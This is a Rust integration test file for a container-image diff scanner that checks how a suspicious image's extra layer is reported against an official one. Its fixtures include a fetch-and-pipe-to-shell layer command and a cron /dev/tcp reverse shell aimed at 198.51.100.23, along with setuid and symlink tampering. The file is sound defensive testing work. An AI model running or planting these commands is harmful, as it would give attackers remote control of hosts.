//! `layerhound diff` on real images made by umoci and skopeo (tests/diff/make-diff-images.sh):
//! an official image and a suspicious one built on all its layers plus one. What the extra layer
//! added, changed and deleted is listed with that layer, nothing from the shared layers is, and
//! only the findings the official image lacks are new; in two docker-archives, in two images of
//! one OCI archive, and across formats.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use serde_json::Value;

fn images() -> &'static Path {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = tempfile::tempdir().expect("temp dir");
        let script = common::repo_path("tests/diff/make-diff-images.sh");
        let status = Command::new("bash").arg(&script).arg(dir.path()).status().expect("bash runs");
        assert!(status.success(), "{} failed: are umoci and skopeo installed? (apt-get install -y umoci skopeo)", script.display());
        dir
    })
    .path()
}

fn image(name: &str) -> PathBuf {
    images().join(name)
}

fn diff(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_layerhound")).arg("diff").arg("-q").args(args).output().expect("layerhound runs")
}

fn diff_json(args: &[&str]) -> (i32, Value) {
    let out = diff(&[args, &["--format", "json"]].concat());
    let json =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|err| panic!("not JSON ({err}): {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code().expect("exit code"), json)
}

fn paths(list: &Value) -> Vec<String> {
    list.as_array().expect("a list").iter().map(|entry| path_text(&entry["path"])).collect()
}

fn path_text(path: &Value) -> String {
    path.as_str().map(String::from).unwrap_or_else(|| path["text"].as_str().expect("path text").to_string())
}

fn entry<'a>(list: &'a Value, path: &str) -> &'a Value {
    list.as_array().expect("a list").iter().find(|e| path_text(&e["path"]) == path).unwrap_or_else(|| panic!("{path} not listed in {list}"))
}

const ATTACK: &str = "/bin/sh -c wget -qO- http://198.51.100.23/i.sh | sh";

/// What the suspicious image's extra layer (index 2) did to the official image.
fn assert_attack(diff: &Value) {
    assert_eq!(diff["shared_layers"], 2);
    assert_eq!(
        paths(&diff["added"]),
        ["/etc/cron.d", "/etc/cron.d/sync", "/opt/.cache", "/opt/.cache/.env", "/opt/new-\\xfe\\x1bname"],
        "added: {diff}"
    );
    for added in diff["added"].as_array().unwrap() {
        assert_eq!(added["b"]["layer"]["index"], 2, "{added}");
        assert_eq!(added["b"]["layer"]["created_by"], ATTACK);
        assert!(added["b"]["layer"]["digest"].as_str().unwrap().starts_with("sha256:"));
    }
    let odd = entry(&diff["added"], "/opt/new-\\xfe\\x1bname");
    assert_eq!(odd["path"]["hex"], hex::encode(b"/opt/new-\xfe\x1bname"), "the raw bytes are kept");
    let cron = entry(&diff["added"], "/etc/cron.d/sync");
    assert_eq!(cron["b"]["type"], "file");
    assert_eq!(cron["b"]["sha256"], common::build::sha(b"* * * * * root /bin/bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"\n"));

    assert_eq!(paths(&diff["changed"]), ["/etc/passwd", "/usr/bin/helper", "/usr/bin/tool"]);
    let passwd = entry(&diff["changed"], "/etc/passwd");
    assert_eq!(passwd["changes"], serde_json::json!(["content"]));
    assert_eq!(passwd["a"]["layer"]["index"], 0);
    assert_eq!(passwd["a"]["layer"]["created_by"], "/bin/sh -c #(nop) ADD file:base in / ");
    assert_eq!(passwd["b"]["layer"]["index"], 2);
    let tool = entry(&diff["changed"], "/usr/bin/tool");
    assert_eq!(tool["changes"], serde_json::json!(["mode"]));
    assert_eq!((tool["a"]["mode"].as_str(), tool["b"]["mode"].as_str()), (Some("0755"), Some("4755")));
    let helper = entry(&diff["changed"], "/usr/bin/helper");
    assert_eq!(helper["changes"], serde_json::json!(["link_target"]));
    assert_eq!(helper["b"]["link_target"], "/tmp/.x/helper");

    assert_eq!(paths(&diff["deleted"]), ["/etc/motd"]);
    let motd = entry(&diff["deleted"], "/etc/motd");
    assert_eq!(motd["a"]["layer"]["index"], 0);
    assert_eq!(motd["deleted_by"]["index"], 2, "B's whiteout is named: {motd}");

    // Nothing from the shared layers: the unchanged odd-named file, the app, /etc/hosts.
    let listed: Vec<String> = ["added", "changed", "deleted"].iter().flat_map(|list| paths(&diff[*list])).collect();
    for unchanged in ["/etc/hosts", "/opt/base-\\xffname", "/app/index.html", "/app/.env", "/usr/bin"] {
        assert!(!listed.iter().any(|p| p == unchanged), "{unchanged} is unchanged but listed");
    }
    assert_eq!(diff["summary"]["unchanged"], 9);

    // New findings: the cron reverse shell and the added database password, never the
    // official image's own password in /app/.env (same finding id in both).
    let places: Vec<String> = diff["new_findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            f["locations"].as_array().unwrap().iter().map(|l| l["path"].as_str().or(l["field"].as_str()).unwrap_or("").to_string())
        })
        .collect();
    let rules: Vec<&str> = diff["new_findings"].as_array().unwrap().iter().map(|f| f["detector"]["rule"].as_str().unwrap()).collect();
    assert!(rules.contains(&"reverse_shell_dev_tcp"), "{rules:?}");
    assert!(rules.contains(&"database-url-password"), "{rules:?}");
    assert!(places.iter().any(|p| p == "/etc/cron.d/sync") && places.iter().any(|p| p == "/opt/.cache/.env"), "{places:?}");
    assert!(!places.iter().any(|p| p == "/app/.env"), "the official image's finding is not new: {places:?}");
    assert_eq!(diff["summary"]["findings_a"], 1, "the official image's own password");
    assert_eq!(diff["summary"]["new_findings"], diff["new_findings"].as_array().unwrap().len());
    assert_eq!(diff["complete"], true);
}

#[test]
fn two_docker_archives_show_what_the_extra_layer_did() {
    let (status, json) = diff_json(&[image("official.docker.tar").to_str().unwrap(), image("suspicious.docker.tar").to_str().unwrap()]);
    assert_eq!(status, 1, "differences give 1");
    assert_eq!(json["a"]["refs"], serde_json::json!(["docker.io/library/web:official"]));
    assert_eq!(json["b"]["refs"], serde_json::json!(["docker.io/library/web:suspicious"]));
    assert_attack(&json);
}

#[test]
fn two_images_of_one_archive() {
    let estate = image("estate.oci.tar");
    let (status, json) = diff_json(&[estate.to_str().unwrap(), "--image-a", "official", "--image-b", "suspicious"]);
    assert_eq!(status, 1);
    assert_eq!(json["a"]["input"], json["b"]["input"]);
    assert_attack(&json);
}

#[test]
fn the_other_way_round_the_additions_are_deletions_and_nothing_is_new() {
    let (status, json) = diff_json(&[image("suspicious.docker.tar").to_str().unwrap(), image("official.docker.tar").to_str().unwrap()]);
    assert_eq!(status, 1);
    assert_eq!(paths(&json["deleted"]).len(), 5);
    assert_eq!(paths(&json["added"]), ["/etc/motd"]);
    assert!(json["deleted"].as_array().unwrap().iter().all(|d| d["deleted_by"].is_null()), "the official image removed nothing");
    assert_eq!(json["new_findings"], serde_json::json!([]));
}

#[test]
fn one_image_in_two_formats_has_no_difference() {
    let docker = image("official.docker.tar");
    let estate = image("estate.oci.tar");
    let (status, json) = diff_json(&[docker.to_str().unwrap(), estate.to_str().unwrap(), "--image-b", "official"]);
    assert_eq!(status, 0, "{json}");
    assert_eq!(json["summary"]["unchanged"], 13);
    assert_eq!(json["new_findings"], serde_json::json!([]));
}

#[test]
fn no_secrets_leaves_secret_findings_out_of_both_sides() {
    let (_, json) =
        diff_json(&[image("official.docker.tar").to_str().unwrap(), image("suspicious.docker.tar").to_str().unwrap(), "--no-secrets"]);
    assert_eq!(json["summary"]["findings_a"], 0);
    let kinds: Vec<&str> = json["new_findings"].as_array().unwrap().iter().map(|f| f["kind"].as_str().unwrap()).collect();
    assert!(!kinds.is_empty() && !kinds.contains(&"secret"), "{kinds:?}");
}

#[test]
fn min_severity_applies_before_comparing() {
    let (_, json) = diff_json(&[
        image("official.docker.tar").to_str().unwrap(),
        image("suspicious.docker.tar").to_str().unwrap(),
        "--min-severity",
        "critical",
    ]);
    let severities: Vec<&str> = json["new_findings"].as_array().unwrap().iter().map(|f| f["severity"].as_str().unwrap()).collect();
    assert_eq!(severities, ["critical"]);
}

#[test]
fn text_names_each_change_with_its_layer_and_escapes_odd_bytes() {
    let out = diff(&[image("official.docker.tar").to_str().unwrap(), image("suspicious.docker.tar").to_str().unwrap(), "--format", "text"]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).expect("text output is UTF-8");
    assert!(!text.contains('\x1b'), "no escape byte from a path reaches the terminal");
    for line in [
        "  + /etc/cron.d/sync  file 0644 0:0 74 bytes  b layer 2 sha256:",
        "  + /opt/new-\\xfe\\x1bname  file",
        "  ~ /usr/bin/tool  mode 0755 → 4755",
        "  ~ /usr/bin/helper  target tool → /tmp/.x/helper",
        "  - /etc/motd  file 0644 0:0 9 bytes  a layer 0 ",
        "findings new in b",
        "/etc/cron.d/sync (layer 2, present)",
        "5 added, 3 changed, 1 deleted, 9 unchanged;",
    ] {
        assert!(text.contains(line), "{line:?} missing from:\n{text}");
    }
    assert!(text.contains(ATTACK));
}

#[test]
fn errors_give_2_and_name_the_file() {
    let estate = image("estate.oci.tar");
    let estate = estate.to_str().unwrap();
    let same = diff(&[estate]);
    assert_eq!(same.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&same.stderr).contains("--image-b"), "{}", String::from_utf8_lossy(&same.stderr));
    let unknown = diff(&[estate, "--image-b", "nope"]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("no image \"nope\""));
    let missing = diff(&["/nonexistent/a.tar", estate]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/a.tar"));
    let dir = tempfile::tempdir().unwrap();
    let not_image = common::build::write_temp(&dir, "notes.txt", b"not an image at all, just text\n");
    let out = diff(&[not_image.to_str().unwrap(), estate]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("notes.txt"), "{}", String::from_utf8_lossy(&out.stderr));
}
